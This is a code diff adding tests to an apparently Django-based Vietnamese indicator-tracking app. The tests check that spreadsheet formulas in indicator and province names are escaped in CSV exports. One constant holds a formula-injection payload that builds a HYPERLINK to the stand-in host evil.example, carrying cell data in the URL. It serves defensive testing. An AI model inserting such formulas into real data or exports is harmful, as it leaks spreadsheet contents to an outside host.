@@ -104,3 +104,22 @@ def test_the_province_map_finds_reported_figures_through_the_reports():
     tiles = {t["code"]: t["value"] for t in province_map(indicator, "2025")["tiles"]}
     assert tiles["52"] is not None  # Gia Lai: the illustrative communes' approved reports
     assert tiles["01"] is None  # Hà Nội reports nothing in the sample data
+
+
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&A2,"Xem")'
+
+
+def test_a_formula_in_an_indicator_name_is_exported_as_text_in_the_progress_csv(gia_lai_viewer):
+    from lotrinh.indicators.models import Target
+
+    target = Target.objects.filter(programme__code="binh-dinh-05-nq-tu").first()
+    Target.objects.filter(pk=target.pk).update(indicator_name=HOSTILE_NAME)
+    table = rows(gia_lai_viewer.get("/programmes/binh-dinh-05-nq-tu/progress/", {"format": "csv"}))
+    names = [row[0] for row in table[1:]]
+    assert "'" + HOSTILE_NAME in names and HOSTILE_NAME not in names
+
+
+def test_a_formula_in_a_province_name_is_exported_as_text_in_the_map_csv(client):
+    OrgUnit.objects.filter(structure=Structure.CURRENT, code="52").update(short_name=HOSTILE_NAME)
+    table = rows(client.get("/indicators/ho-so-cong-viec-truc-tuyen/map/", {"format": "csv"}))
+    assert next(row[:2] for row in table if row[0] == "52") == ["52", "'" + HOSTILE_NAME]
